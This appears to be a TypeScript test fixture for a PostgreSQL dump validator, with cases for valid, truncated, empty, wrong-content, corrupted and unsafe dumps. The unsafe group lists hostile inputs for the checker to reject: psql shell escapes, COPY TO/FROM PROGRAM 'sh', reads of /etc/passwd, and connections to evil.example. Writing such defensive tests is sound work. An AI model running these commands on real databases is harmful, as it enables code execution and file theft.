import { type Case, from, swap, throughTerminal, upTo } from './cases.ts'
import type { PgDumps } from './pg-dumps.ts'

type PgCase = Case<PgDumps>

const TRAILER = '-- PostgreSQL database dump complete'
const COPY_USERS = 'COPY public.users (id, email, note, at) FROM stdin;\n'
const text = (words: string) => () => Buffer.from(words)

/** Puts a line before the first data, where a statement may stand. */
const withLine = (line: string) => (dumps: PgDumps) =>
  swap(dumps.plain, 'SET default_tablespace', `${line}\nSET default_tablespace`)

function overwritten(bytes: Buffer, at: number, count: number, byte: number): Buffer {
  const copy = Buffer.from(bytes)
  copy.fill(byte, at, at + count)
  return copy
}

const good = (name: string, bytes: PgCase['bytes'], says?: RegExp): PgCase => ({
  name,
  bytes,
  word: 'ok',
  ...(says === undefined ? {} : { says }),
})

export const GOOD: readonly PgCase[] = [
  good('pg_dump', ({ plain }) => plain),
  good('pg_dump --inserts', ({ inserts }) => inserts),
  good('pg_dump --column-inserts with many rows each', ({ columnInserts }) => columnInserts),
  good('pg_dump -C -c --if-exists', ({ create }) => create),
  good('pg_dump -s', ({ schemaOnly }) => schemaOnly, /tables and no row/),
  good('pg_dump -a', ({ dataOnly }) => dataOnly, /data alone/),
  good('pg_dump -t', ({ oneTable }) => oneTable),
  good('pg_dump without owners', ({ noOwner }) => noOwner),
  good('pg_dump with session authorization', ({ sessions }) => sessions),
  good('pg_dump with all names quoted', ({ quoted }) => quoted),
  good('pg_dump in Latin-1', ({ latin1 }) => latin1),
  good('pg_dump -v --no-comments', ({ noComments }) => noComments),
  good('pg_dumpall', ({ all }) => all),
  good('pg_dumpall --globals-only', ({ globals }) => globals, /roles and settings/),
  good('pg_restore -f -', ({ restored }) => restored),
  good('P34 CRLF in all lines', ({ plain }) => throughTerminal(plain), /CR LF/),
  good('CRLF in a dump of INSERTs', ({ inserts }) => throughTerminal(inserts), /CR LF/),
  good('CRLF in pg_dumpall', ({ all }) => throughTerminal(all), /CR LF/),
  good('a byte order mark', ({ plain }) => Buffer.concat([Buffer.from('\ufeff'), plain]), /byte order mark/),
  good('two dumps in one file', ({ plain, oneTable }) => Buffer.concat([plain, oneTable])),
  good('no line end behind the trailer', ({ plain }) => upTo(plain, `${TRAILER}\n--`)),
  good(
    'a function in an untrusted language',
    withLine('CREATE FUNCTION public.g() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$;'),
    /plpython3u/,
  ),
]

const bad = (word: PgCase['word'], name: string, bytes: PgCase['bytes'], says?: RegExp): PgCase => ({
  ...good(name, bytes, says),
  word,
})

export const CUT: readonly PgCase[] = [
  bad('incomplete', 'P19 cut in a row', ({ plain }) => upTo(plain, 'u250@exam'), /COPY/),
  bad('incomplete', 'cut behind a row', ({ plain }) => upTo(plain, COPY_USERS), /COPY/),
  bad(
    'incomplete',
    'P20 cut behind finished data',
    ({ plain }) => upTo(plain, '60\t2025-01-30\n\\.\n'),
    /closing line/,
  ),
  bad('incomplete', 'P48 cut behind a row with the text of the trailer', ({ plain }) => upTo(plain, TRAILER)),
  bad('incomplete', 'cut in a CREATE TABLE', ({ plain }) => upTo(plain, 'CREATE TABLE public.users (')),
  bad('incomplete', 'cut in a function', ({ plain }) => upTo(plain, "EXECUTE 'x'"), /string/),
  bad('incomplete', 'cut in a first word', ({ plain }) => upTo(plain, 'CREATE TABLE public.empty_one', -22)),
  bad('incomplete', 'cut in an INSERT', ({ inserts }) => upTo(inserts, "'u250@exam")),
  bad('incomplete', 'cut behind an INSERT', ({ inserts }) => upTo(inserts, "VALUES (2, 'E''\\\\', NULL);\n")),
  bad('incomplete', 'cut in the trailer', ({ plain }) => plain.subarray(0, plain.lastIndexOf(TRAILER) + 20)),
  bad('incomplete', 'the head alone', ({ plain }) => upTo(plain, 'SET row_security = off;\n')),
  bad('incomplete', 'the trailer cut off', ({ plain }) =>
    plain.subarray(0, plain.lastIndexOf(`--\n${TRAILER}`)),
  ),
  bad('incomplete', 'the beginning missing', ({ plain }) => from(plain, 'CREATE TABLE public.users')),
  bad('incomplete', 'P57 pg_dumpall cut behind its first database', ({ all }) => upTo(all, TRAILER, 4)),
  bad('incomplete', 'pg_dumpall cut before its own trailer', ({ all }) =>
    upTo(
      all.subarray(0, all.lastIndexOf('cluster dump complete')),
      '',
      all.lastIndexOf('cluster dump complete') - 20,
    ),
  ),
  bad('incomplete', 'pg_dumpall cut among its roles', ({ all }) => upTo(all, 'CREATE ROLE app_owner;\n')),
  bad('incomplete', 'CRLF and cut in a row', ({ plain }) => upTo(throughTerminal(plain), 'u250@exam')),
  bad('incomplete', 'cut in the large objects', ({ plain }) => upTo(plain, 'lo_close(0);\n')),
  bad('empty', 'no bytes', text('')),
  bad('empty', 'P22 a database without tables', ({ nothing }) => nothing, /no table/),
  bad('empty', 'a database without tables, with CREATE DATABASE', ({ createNothing }) => createNothing),
  bad('empty', 'empty lines', text('\n\n\n')),
  bad('empty', 'comments alone', text('-- hello\n-- world\n')),
]

export const OTHER: readonly PgCase[] = [
  bad(
    'wrong-content',
    'an HTML page',
    text('<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head></html>\n'),
  ),
  bad(
    'wrong-content',
    'AccessDenied of S3',
    text('<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code></Error>'),
    /XML/,
  ),
  bad('wrong-content', 'a JSON answer', text('{"message":"Not Found"}\n')),
  bad(
    'wrong-content',
    'the message of pg_dump',
    text(
      'pg_dump: error: connection to server at "db" (10.0.0.2), port 5432 failed: FATAL:  password authentication failed for user "a"\n',
    ),
  ),
  bad(
    'wrong-content',
    'the message of an old pg_dump',
    text('pg_dump: [archiver (db)] connection to database "x" failed: could not connect\n'),
  ),
  bad('wrong-content', 'the message of docker', text('Error response from daemon: No such container: db\n')),
  bad('wrong-content', 'the message of a shell', text('bash: line 1: pg_dump: command not found\n')),
  bad('wrong-content', 'an apostrophe in a message', text("Can't connect to the server\n")),
  bad('wrong-content', 'some text', text('hello world, this is no dump\n')),
  bad(
    'wrong-content',
    'UTF-16 of PowerShell',
    ({ plain }) => Buffer.from(`\ufeff${plain.toString('latin1')}`, 'utf16le'),
    /UTF-16/,
  ),
  bad('wrong-content', 'a warning before the dump (2>&1)', ({ plain }) =>
    Buffer.concat([
      Buffer.from('pg_dump: warning: there are circular foreign-key constraints on this table:\n'),
      plain,
    ]),
  ),
  bad('wrong-content', 'an error at the end (2>&1)', ({ plain }) =>
    Buffer.concat([
      upTo(plain, '60\t2025-01-30\n\\.\n'),
      Buffer.from('pg_dump: error: query failed: server closed the connection unexpectedly\n'),
    ]),
  ),
  bad('wrong-content', 'an error among the rows (2>&1)', ({ plain }) =>
    Buffer.concat([
      upTo(plain, 'u250@example.org'),
      Buffer.from(
        '\tx\ty\npg_dump: error: Dumping the contents of table "users" failed: PQgetCopyData() failed.\n',
      ),
    ]),
  ),
  bad('wrong-content', 'an error behind the trailer', ({ plain }) =>
    Buffer.concat([plain, Buffer.from('ERROR:  out of memory\n')]),
  ),
]

export const CORRUPT: readonly PgCase[] = [
  bad(
    'corrupt',
    'NUL bytes in the middle',
    ({ plain }) => overwritten(plain, plain.indexOf('u100@'), 4_096, 0),
    /NUL/,
  ),
  bad(
    'corrupt',
    'NUL bytes at the end',
    ({ plain }) => overwritten(plain, plain.length - 2_000, 2_000, 0),
    /NUL/,
  ),
  bad('corrupt', 'the end of data lost', ({ plain }) =>
    swap(plain, '60\t2025-01-30\n\\.\n', '60\t2025-01-30\n'),
  ),
  bad('corrupt', 'a column lost', ({ plain }) => swap(plain, 'u77@example.org\t', ''), /1 row has/),
  bad('corrupt', 'a column too much', ({ plain }) => swap(plain, 'u77@example.org\t', 'u77@example.org\t\t')),
  bad('corrupt', 'a block missing', ({ plain }) => swap(plain, /u100@[\s\S]*?u120@example\.org\t/, '')),
  bad('corrupt', 'the COPY line lost', ({ plain }) => swap(plain, COPY_USERS, '')),
  bad('corrupt', 'a marker that is none', ({ plain }) =>
    swap(plain, '2025-01-30\n\\.\n', '2025-01-30\n\\.x\n'),
  ),
  bad('corrupt', 'CR LF in some rows', ({ plain }) => swap(plain, '57\t2025-01-27\n', '57\t2025-01-27\r\n')),
  bad('corrupt', 'a parenthesis lost', ({ plain }) =>
    swap(
      plain,
      'CREATE TABLE public.empty_one (\n    id integer\n);',
      'CREATE TABLE public.empty_one (\n    id integer\n;',
    ),
  ),
  bad('corrupt', 'a quote lost', ({ inserts }) => swap(inserts, "'u77@example.org'", "'u77@example.org")),
  bad('corrupt', 'a first word damaged', ({ plain }) =>
    swap(plain, 'CREATE TABLE public.empty_one', 'CREBTE TABLE public.empty_one'),
  ),
  bad('corrupt', 'noise', ({ plain }) =>
    swap(plain, 'CREATE TABLE public.empty_one', '\u0081\u0099\u00fe\u0007 ;'),
  ),
]

export const UNSAFE: readonly PgCase[] = [
  bad('unsafe', 'P51 a command of the shell', withLine('\\! touch /tmp/owned'), /\\!/),
  ...[
    '\\i /etc/passwd',
    '\\ir x.sql',
    '\\o /tmp/x',
    '\\o | sh',
    "\\copy users to program 'sh'",
    '\\g | sh',
    '\\w /tmp/x',
    '\\setenv PATH /tmp',
    '\\include x',
    '\\lo_import /etc/passwd',
    '\\set x `id`',
    '\\if true',
    '\\echo hi',
    '\\warn hi',
    '\\q',
  ].map((line) => bad('unsafe', line, withLine(line))),
  bad('unsafe', 'a command behind a statement', withLine("SELECT 'touch /tmp/x' \\gexec")),
  bad('unsafe', 'a command behind another', withLine('\\connect shop \\! id')),
  bad('unsafe', 'a command in backquotes', withLine('\\connect `id`')),
  bad('unsafe', 'a connection to elsewhere', withLine('\\connect "host=evil.example dbname=x"')),
  bad('unsafe', 'a URL to connect to', withLine('\\c postgres://evil.example/x')),
  bad('unsafe', 'P52 COPY FROM PROGRAM', withLine("COPY public.users FROM PROGRAM 'id';")),
  bad('unsafe', 'COPY TO PROGRAM', withLine("copy (SELECT 1)\n to  program 'sh';")),
  bad('unsafe', 'COPY TO a file', withLine("COPY public.users TO '/tmp/x';")),
  bad('unsafe', 'COPY FROM a file', withLine("COPY public.users (id) FROM E'/etc/passwd' CSV;")),
  bad('unsafe', 'COPY with a comment in it', withLine('COPY/*x*/public.users FROM -- y\n PROGRAM $$id$$;')),
  bad('unsafe', 'lo_import', withLine("SELECT pg_catalog.lo_import('/etc/passwd');")),
  bad('unsafe', 'pg_read_file', withLine("SELECT pg_read_file('/etc/passwd');")),
  bad('unsafe', 'ALTER SYSTEM', withLine("ALTER SYSTEM SET archive_command = 'sh';")),
  bad('unsafe', 'LOAD', withLine("LOAD '/tmp/x.so';")),
  bad(
    'unsafe',
    'a foreign table that runs a program',
    withLine("CREATE FOREIGN TABLE x (a text) SERVER s OPTIONS (program 'id');"),
  ),
  bad('unsafe', 'a command behind the trailer', ({ plain }) =>
    Buffer.concat([plain, Buffer.from('\\! id\n')]),
  ),
]

export const ALL: readonly PgCase[] = [...GOOD, ...CUT, ...OTHER, ...CORRUPT, ...UNSAFE]
